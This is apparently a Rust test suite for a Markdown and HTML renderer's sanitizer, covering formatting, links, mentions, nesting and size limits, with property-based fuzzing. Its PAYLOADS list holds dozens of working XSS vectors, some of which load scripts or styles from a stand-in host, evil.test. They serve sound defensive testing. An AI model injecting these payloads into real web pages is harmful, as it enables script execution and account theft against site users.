//! Kernel: what the renderer promises, as tests.

use super::invariants::check;
use super::*;
use crate::kernel::limits::*;
use proptest::prelude::*;

fn html(md: &str) -> String {
    let out = render(md).html.into_string();
    if let Err(error) = check(&out, MAX_NESTING) {
        panic!("{error}\nsource: {md:?}\nhtml: {out}");
    }
    out
}

fn imported(source: &str) -> String {
    let out = render_html(source).html.into_string();
    if let Err(error) = check(&out, MAX_NESTING) {
        panic!("{error}\nsource: {source:?}\nhtml: {out}");
    }
    out
}

#[track_caller]
fn is(md: &str, expect: &str) {
    assert_eq!(html(md).trim_end(), expect, "{md:?}");
}

const REL: &str = "rel=\"nofollow ugc noopener\"";

#[test]
fn commonmark_becomes_plain_elements() {
    is("a *b* **c** ~~d~~ `e<f`", "<p>a <em>b</em> <strong>c</strong> <del>d</del> <code>e&lt;f</code></p>");
    is("# One\n\n###### Six", "<h3>One</h3>\n<h6>Six</h6>");
    is("> a\n> b", "<blockquote>\n<p>a\nb</p>\n</blockquote>");
    is("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>");
    is("3. a\n4. b", "<ol start=\"3\">\n<li>a</li>\n<li>b</li>\n</ol>");
    is("- [x] a\n- [ ] b", "<ul>\n<li>☑ a</li>\n<li>☐ b</li>\n</ul>");
    is("a  \nb\n\n---", "<p>a<br>\nb</p>\n<hr>");
    is(
        "|a|b|\n|:-|-:|\n|1|2|",
        "<table><thead><tr><th align=\"left\">a</th><th align=\"right\">b</th></tr></thead><tbody><tr><td align=\"left\">1</td><td align=\"right\">2</td></tr></tbody></table>",
    );
    is("a & b < c > d \"e\" &copy;", "<p>a &amp; b &lt; c &gt; d \"e\" ©</p>");
}

#[test]
fn links_and_images_say_what_they_are() {
    is("[a](https://b.c \"t\")", &format!("<p><a href=\"https://b.c\" title=\"t\" {REL}>a</a></p>"));
    is("<https://b.c>", &format!("<p><a href=\"https://b.c\" {REL}>https://b.c</a></p>"));
    is("<a@b.cd>", &format!("<p><a href=\"mailto:a@b.cd\" {REL}>a@b.cd</a></p>"));
    is("![a *b*](/c.png)", "<p><img src=\"/c.png\" alt=\"a b\" loading=\"lazy\"></p>");
    is("![a](javascript:x)", "<p>a</p>");
    is("[a](javascript:x)", "<p>a</p>");
    is("<img src=x.png>", "<img src=\"x.png\" alt=\"\" loading=\"lazy\">");
}

#[test]
fn bare_urls_become_links_without_the_sentence_around_them() {
    let link = |url: &str| format!("<a href=\"{url}\" {REL}>{url}</a>");
    is("see https://a.b/c_d_e.", &format!("<p>see {}.</p>", link("https://a.b/c_d_e")));
    is("(http://a.b/x_(y))", &format!("<p>({})</p>", link("http://a.b/x_(y)")));
    is("**https://a.b**", &format!("<p><strong>{}</strong></p>", link("https://a.b")));
    is("xhttp://a.b https:// ftp://a", "<p>xhttp://a.b https:// ftp://a</p>");
    is(
        "`http://a.b` [http://a.b](/c)",
        &format!("<p><code>http://a.b</code> <a href=\"/c\" {REL}>http://a.b</a></p>"),
    );
    is("https://medium.com/@ann", &format!("<p>{}</p>", link("https://medium.com/@ann")));
}

#[test]
fn mentions_link_to_people() {
    let ann = "<a class=\"mention\" href=\"/people/ann\">@ann</a>";
    is("hi @ann.", &format!("<p>hi {ann}.</p>"));
    is("@ann, (@ann)", &format!("<p>{ann}, ({ann})</p>"));
    is(
        "ann@example.com `@ann` [@ann](/x) @an @-ann @ann@there.org",
        &format!(
            "<p>ann@example.com <code>@ann</code> <a href=\"/x\" {REL}>@ann</a> @an @-ann @ann@there.org</p>"
        ),
    );
    is("@a_b.c-d", "<p><a class=\"mention\" href=\"/people/a_b.c-d\">@a_b.c-d</a></p>");
    is("@Дарио", "<p><a class=\"mention\" href=\"/people/%D0%94%D0%B0%D1%80%D0%B8%D0%BE\">@Дарио</a></p>");
    let out = render("@ann @Bruno @ANN @bruno");
    assert_eq!(out.mentions, ["ann", "Bruno"]);
    let many: String = (0..50).map(|n| format!("@user{n} ")).collect();
    assert_eq!(render(&many).mentions.len(), MAX_MENTIONS);
    assert!(render("```\n@ann\n```\n<script>@bruno</script>").mentions.is_empty());
}

#[test]
fn raw_html_keeps_what_the_cleaner_lets_through() {
    is("a <kbd>Ctrl</kbd> x<sup>2</sup>", "<p>a <kbd>Ctrl</kbd> x<sup>2</sup></p>");
    is("<p>a <b>b</p>", "<p>a <b>b</b></p>");
    is("<h1>a</h1>", "<h3>a</h3>");
    is("a Vec<String> b", "<p>a Vec&lt;String&gt; b</p>");
    is(
        "<details><summary>s</summary>\n\n**b**\n\n</details>",
        "<details><summary>s</summary>\n<p><strong>b</strong></p>\n</details>",
    );
    is("<span class=\"hl-keyword button\" id=\"x\" style=\"y\">a</span>", "<p><span>a</span></p>");
    is("a <!-- b --> c", "<p>a  c</p>");
    is("> a </blockquote> b", "<blockquote>\n<p>a  b</p>\n</blockquote>");
    is("a <script>alert(1)</script> b", "<p>a  b</p>");
}

#[test]
fn imported_bodies_keep_their_shape() {
    let source = "<p>Use <code>a&lt;b</code> &mdash; <a href=\"https://x.y/?a=1&amp;b=2\" rel=\"nofollow noreferrer\">x</a></p>\n\n<pre class=\"lang-py prettyprint-override\"><code>def f():\n    return &quot;&lt;&amp;&quot;\n</code></pre>\n<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n<p><img src=\"https://i.x/a.png\" alt=\"b\" /></p>";
    let out = imported(source);
    assert!(
        out.starts_with(&format!(
            "<p>Use <code>a&lt;b</code> — <a href=\"https://x.y/?a=1&amp;b=2\" {REL}>x</a></p>"
        )),
        "{out}"
    );
    assert!(
        out.contains("<pre><code class=\"hl-code hl-lang-py\"><span class=\"hl-keyword\">def </span>"),
        "{out}"
    );
    assert!(out.contains("<ul>\n<li>a</li>\n<li>b</li>\n</ul>"), "{out}");
    assert!(out.contains("<img src=\"https://i.x/a.png\" alt=\"b\" loading=\"lazy\">"), "{out}");
    let rendered = render_html(source);
    assert!(rendered.has_code && rendered.mentions.is_empty());
    assert!(rendered.text.contains("return \"<&\""), "{}", rendered.text);
    assert_eq!(imported("<p>a<p>b<ul><li>c<li>d</ul>"), "<p>a</p><p>b</p><ul><li>c</li><li>d</li></ul>");
    assert_eq!(
        imported("<table><tr><td>1<td>2<tr><td>3</table>"),
        "<table><tbody><tr><td>1</td><td>2</td></tr><tr><td>3</td></tr></tbody></table>"
    );
    assert!(imported("<pre><code>#!/bin/sh\necho a\n</code></pre>").contains("hl-comment"));
}

#[test]
fn the_plain_text_is_what_a_reader_sees() {
    let out = render("# T\n\na *b* &lt; `c`\n\n- d\n- e\n\n|f|g|\n|-|-|\n|h|i|\n");
    assert_eq!(out.text, "T\na b < c\nd\ne\nf g\nh i");
    assert!(out.has_code);
}

#[test]
fn fenced_code_is_highlighted_and_the_rest_escaped() {
    let out = html("```rust\nfn a() {}\n```");
    assert!(
        out.starts_with("<pre><code class=\"hl-code hl-lang-rust\"><span class=\"hl-keyword\">fn </span>"),
        "{out}"
    );
    is("```\"><script>\na<b\n```", "<pre><code class=\"hl-code\">a&lt;b\n</code></pre>");
    is("    a<b", "<pre><code class=\"hl-code\">a&lt;b</code></pre>");
}

/// Own payloads: none may leave a script, a handler, a frame, a style or a bad URL behind.
const PAYLOADS: [&str; 78] = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.test></script>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img src=javascript:alert(1)>",
    "<img src=data:image/svg+xml,<svg/onload=alert(1)>>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate attributeName=href to=javascript:alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href='x' onclick='alert(1)'>x</a>",
    "<a href=x style=position:fixed;inset:0>x</a>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div onmouseover=alert(1)>x</div>",
    "<b onfocus=alert(1) tabindex=0 autofocus>x</b>",
    "<style>@import '//evil.test'</style>",
    "<link rel=stylesheet href=//evil.test>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.test>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select onfocus=alert(1)><option>x</select>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<plaintext><script>alert(1)</script>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<table background=javascript:alert(1)><tr><td>x</table>",
    "<p title=\"--><script>alert(1)</script>\">x</p>",
    "<!--><script>alert(1)</script>-->",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<!ENTITY x '<script>alert(1)</script>'>",
    "[a](javascript:alert(1))",
    "[a](JAVASCRIPT:alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](&#x6A;avascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a]: javascript:alert(1)\n\n[a]",
    "![a](x\"onerror=\"alert(1))",
    "![a\"onerror=alert(1)//](x)",
    "[a](x 'y\"onclick=\"alert(1)')",
    "<javascript:alert(1)>",
    "```\"><img/src=x/onerror=alert(1)>\nx\n```",
    "@ann\"onclick=alert(1)",
    "https://a.b/\"onclick=\"alert(1)",
];

#[test]
fn no_payload_leaves_anything_that_runs() {
    for payload in PAYLOADS {
        // The reader in `check` fails on any unlisted element or attribute and on any bad URL.
        html(payload);
        imported(payload);
        html(&format!("> - *a* {payload} `b`\n\n|{payload}|\n|-|\n|{payload}|"));
        imported(&format!("<p><b><pre><code>{payload}</code></pre>{payload}<table><tr>{payload}"));
    }
}

fn deepest(source: &str) -> usize {
    check(render(source).html.as_str(), MAX_NESTING).unwrap()
}

#[test]
fn depth_is_bounded_whatever_nests() {
    for unit in [
        ">",
        "- ",
        "1. ",
        "<div>",
        "<b>",
        "<blockquote>",
        "<p><b>",
        "<ul><li>",
        "<table><tr><td>",
        "<span>\n\n",
        "*a **b ",
        "> <div>\n\n> ",
    ] {
        let source = unit.repeat(10_000 / unit.len()) + "text";
        assert!(deepest(&source) <= MAX_NESTING + 4, "{unit}");
        let out = render_html(&source).html.into_string();
        assert!(check(&out, MAX_NESTING).unwrap() <= MAX_NESTING + 4, "{unit}");
    }
    assert!(deepest(&">".repeat(10)) >= 10);
}

#[test]
fn counts_and_sizes_are_bounded() {
    let count = |md: &str, tag: &str| html(md).matches(tag).count();
    assert_eq!(count(&"[a](/b) ".repeat(MAX_LINKS + 50), "<a "), MAX_LINKS);
    assert_eq!(count(&"![a](/b) ".repeat(MAX_IMAGES + 50), "<img"), MAX_IMAGES);
    let wide = format!("{}\n{}\n{}", "|a".repeat(3_000), "|-".repeat(3_000), "|a\n".repeat(3_000));
    assert!(count(&wide, "<td") <= MAX_TABLE_CELLS);
    assert!(count(&"*a* ".repeat(20_000), "<em>") <= MAX_ELEMENTS);
    let long = "a<".repeat(MAX_BODY_BYTES);
    let out = render(&long);
    assert!(out.fell_back && out.text.len() <= MAX_BODY_BYTES);
    assert_eq!(check(out.html.as_str(), MAX_NESTING), Ok(1));
}

/// Pieces that Markdown and HTML give a meaning to, put together at random.
fn markdownish() -> impl Strategy<Value = String> {
    let piece = prop::sample::select(vec![
        "*",
        "**",
        "_",
        "~~",
        "`",
        "```",
        "\n",
        "\n\n",
        "> ",
        "- ",
        "1. ",
        "# ",
        "|",
        "|-|-|\n",
        "[",
        "]",
        "(",
        ")",
        "![",
        "](",
        "<",
        ">",
        "</",
        "/>",
        "\"",
        "'",
        "=",
        "&",
        "&lt;",
        "&#106;",
        ";",
        ":",
        "@ann",
        "@",
        "http://a.b",
        "https://",
        "javascript:",
        "a",
        "b ",
        " ",
        "    ",
        "\\",
        "<b>",
        "</b>",
        "<a href=",
        "<a href=\"x\">",
        "</a>",
        "<table>",
        "<tr>",
        "<td>",
        "</table>",
        "<pre>",
        "<code>",
        "</code></pre>",
        "<p>",
        "</p>",
        "<div>",
        "</div>",
        "<script>",
        "</script>",
        "<style>",
        "<svg>",
        "<math>",
        "<img src=x onerror=y>",
        "<!--",
        "-->",
        "<li>",
        "<ul>",
        "<details>",
        "<ruby>",
        "<rt>",
        "<h1>",
        "</h1>",
        "<caption>",
        "<title>",
        "<select>",
        " onclick=",
        "\u{0}",
        "\u{202e}",
        "é",
        "\r\n",
        "\t",
        "<br>",
        "<hr>",
        "</br>",
        "</p>",
        "<iframe>",
        "<dd>",
        "<textarea>",
        "<i ",
        "<q>",
    ]);
    prop::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat())
}

fn holds(source: &str) -> Result<(), TestCaseError> {
    for out in [render(source), render_html(source)] {
        let html = out.html.as_str();
        prop_assert!(check(html, MAX_NESTING).is_ok(), "{:?}\n{html}\n{source:?}", check(html, MAX_NESTING));
        prop_assert!(out.mentions.len() <= MAX_MENTIONS);
        // Only white space where parsers disagree may change when it is cleaned once more.
        let squeeze = |html: &str| html.split_whitespace().collect::<String>();
        prop_assert_eq!(squeeze(&clean::clean(html)), squeeze(html), "{:?}", source);
    }
    Ok(())
}

proptest! {
    #[test]
    fn any_text_renders_to_safe_html(source in any::<String>()) {
        holds(&source)?;
    }

    #[test]
    fn anything_like_markdown_renders_to_safe_html(source in markdownish()) {
        holds(&source)?;
    }

    #[test]
    fn payloads_in_pieces_render_to_safe_html(a in 0..PAYLOADS.len(), b in 0..PAYLOADS.len(), cut in 0usize..40, glue in markdownish()) {
        let (a, b) = (PAYLOADS[a], PAYLOADS[b]);
        let cut = first_bytes(a, cut).len();
        holds(&format!("{}{glue}{b}{}", &a[..cut], &a[cut..]))?;
    }
}
